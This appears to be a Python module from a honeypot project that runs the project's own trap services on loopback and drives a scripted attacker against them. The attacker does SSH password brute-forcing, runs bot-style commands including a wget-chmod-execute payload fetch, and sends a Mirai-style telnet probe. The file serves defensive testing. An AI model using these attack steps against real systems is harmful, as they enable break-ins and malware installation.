# SPDX-License-Identifier: MIT
"""``honeyfarm demo --live``: the real traps on loopback, attacked by a script.

The sensor runs in this process on 127.0.0.1 only. A scripted attacker — a
real SSH client (asyncssh) and a raw Telnet client — brute-forces it, logs in,
runs the commands bots run and fetches a "payload" from a throw-away HTTP
server on loopback, so the download capture has something to catch; then the
web, Redis, Docker and Elasticsearch traps get the exploits that drop malware
(:mod:`honeyfarm.demo.exploits`), whose URLs the traps fetch the same way, and the
SMB, FTP, MSSQL and SIP traps what worms and scanners do to them
(:mod:`honeyfarm.demo.services`). Then the
spool is ingested into the demo lake like any sensor's spool. With
``--duration N`` the traps stay up N seconds for you to try by hand
(``ssh -p PORT root@127.0.0.1``, ``telnet 127.0.0.1 PORT``).
"""

from __future__ import annotations

import asyncio
import contextlib
import re
import socket
from pathlib import Path
from typing import Any

from rich.console import Console

from honeyfarm.config import Config
from honeyfarm.demo.exploits import attack_all
from honeyfarm.demo.payload import PAYLOAD
from honeyfarm.demo.services import attack_services
from honeyfarm.sensor.config import SensorConfig
from honeyfarm.sensor.runtime import Sensor


def _port(preferred: int) -> int:
    with socket.socket() as s:
        try:
            s.bind(("127.0.0.1", preferred))
        except OSError:
            s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def demo_sensor_config(
    workdir: Path, ssh_port: int, telnet_port: int, exploit_ports: dict[str, int] | None = None
) -> SensorConfig:
    traps: dict[str, dict[str, Any]] = {
        name: {"enabled": True, "listen": [f"127.0.0.1:{port}"]} for name, port in (exploit_ports or {}).items()
    }
    if "smb" in traps:
        traps["smb"]["netbios_listen"] = []
    if "sip" in traps:
        traps["sip"]["tcp_listen"] = traps["sip"]["listen"]
    return SensorConfig.model_validate(
        {
            "identity": {"name": "live-demo", "region": "loopback", "provider": "local", "tags": {"exposure": "ip"}},
            "spool": {"dir": workdir / "spool", "fsync_interval": 0.2},
            "ssh": {"listen": [f"127.0.0.1:{ssh_port}"], "auth_fail_delay": 0.3},
            "telnet": {"listen": [f"127.0.0.1:{telnet_port}"]},
            "downloads": {"allow_loopback": True, "timeout": 10.0},
            "credentials": {"userdb": ["root:x:!root", "root:x:!123456", "root:x:*", "admin:x:admin"]},
            **traps,
        },
        strict=False,
    )


async def _payload_server() -> tuple[asyncio.AbstractServer, int]:
    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(Exception):
            await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
            writer.write(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
                + f"Content-Length: {len(PAYLOAD)}\r\nConnection: close\r\n\r\n".encode()
                + PAYLOAD
            )
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(handle, "127.0.0.1", 0)
    return server, int(server.sockets[0].getsockname()[1])


async def _ssh_attack(port: int, http_port: int, log: Any) -> None:
    import asyncssh

    opts: dict[str, Any] = {"known_hosts": None, "client_keys": None, "preferred_auth": "password"}
    for user, pw in [("root", "root"), ("root", "123456"), ("admin", "password")]:
        with contextlib.suppress(asyncssh.PermissionDenied, asyncssh.DisconnectError):
            async with asyncssh.connect("127.0.0.1", port, username=user, password=pw, **opts):
                pass
    async with asyncssh.connect("127.0.0.1", port, username="root", password="toor", **opts) as conn:
        for cmd in (
            "uname -a",
            "cat /proc/cpuinfo | grep name | wc -l",
            f"cd /tmp && wget http://127.0.0.1:{http_port}/bins/x86 && chmod +x x86 && ./x86",
        ):
            # EOF on stdin, as `ssh host cmd < /dev/null`: the trap, like sshd + bash, waits for the input
            # of a program that may read it (the downloaded ./x86).
            proc_ = await conn.create_process(cmd)
            proc_.stdin.write_eof()
            res = await proc_.wait(check=False, timeout=30)
            log(f"  ssh $ {cmd}\n    " + str(res.stdout).strip().replace("\n", "\n    ")[:300])
        proc = await conn.create_process(term_type="xterm", term_size=(80, 24))
        proc.stdin.write("id; w\nls -la /root\nexit\n")
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(proc.wait_closed(), 10)


async def _telnet_attack(port: int) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)

    async def expect(token: bytes) -> None:
        buf = b""
        async with asyncio.timeout(10):
            while token not in buf:
                chunk = await reader.read(4096)
                if not chunk:
                    return
                buf += chunk
                # As a Mirai-style bot: refuse every option (IAC DO x -> WONT x, IAC WILL x -> DONT x).
                # inetutils-telnetd, and the trap like it, prompts only once its options are answered.
                answers = re.findall(rb"\xff([\xfb\xfd])(.)", chunk, flags=re.S)
                writer.write(b"".join(b"\xff" + (b"\xfc" if c == b"\xfd" else b"\xfe") + o for c, o in answers))

    try:
        await expect(b"login: ")
        writer.write(b"admin\r\n")
        await expect(b"Password: ")
        writer.write(b"admin\r\n")
        await expect(b"$ ")
        writer.write(b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\nexit\r\n")
        await writer.drain()
        with contextlib.suppress(TimeoutError):
            await expect(b"logout")
    finally:
        writer.close()


async def _downloads_settle(sensor: Sensor, timeout: float = 15.0) -> None:
    """The traps fetch payload URLs in background tasks: let them finish before the spool is read."""
    ctx = sensor.ctx
    if ctx is None:
        return
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(timeout):
            while pending := [t for t in ctx.tasks if not t.done() and t.get_name().startswith("honeyfarm-payload-")]:
                await asyncio.wait(pending, timeout=0.5)


def run_live(cfg: Config, workdir: Path, duration: float, out: Console) -> Path:
    """Run the traps, attack them, return the spool directory (to ingest)."""
    ssh_port, telnet_port = _port(2222), _port(2323)
    exploit_ports = {"http": _port(8080), "redis": _port(6379), "docker": _port(2375), "elasticsearch": _port(9200)}
    service_ports = {"smb": _port(4445), "ftp": _port(2121), "mssql": _port(1433), "sip": _port(5060)}
    scfg = demo_sensor_config(workdir, ssh_port, telnet_port, exploit_ports | service_ports)

    def log(msg: str) -> None:
        out.print(msg, markup=False, highlight=False)

    async def main() -> None:
        sensor = Sensor(scfg)
        await sensor.start()
        http, http_port = await _payload_server()
        try:
            log(f"live traps on loopback: ssh -p {ssh_port} root@127.0.0.1   |   telnet 127.0.0.1 {telnet_port}")
            log("scripted attacker: brute force, login, commands, a download, a Mirai-style telnet probe")
            await asyncio.wait_for(_ssh_attack(ssh_port, http_port, log), 60)
            await asyncio.wait_for(_telnet_attack(telnet_port), 30)
            log("exploits: " + ", ".join(f"{k} 127.0.0.1:{v}" for k, v in exploit_ports.items()))
            await attack_all(exploit_ports, http_port, log)
            log("worms and scanners: " + ", ".join(f"{k} 127.0.0.1:{v}" for k, v in service_ports.items()))
            await attack_services(service_ports, log)
            await _downloads_settle(sensor)
            if duration:
                log(f"traps stay up {duration:.0f} s for you to try (Ctrl-C ends early)")
                with contextlib.suppress(asyncio.CancelledError):
                    await asyncio.sleep(duration)
        finally:
            http.close()
            await sensor.stop()

    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(main())
    return scfg.spool.dir / "events"
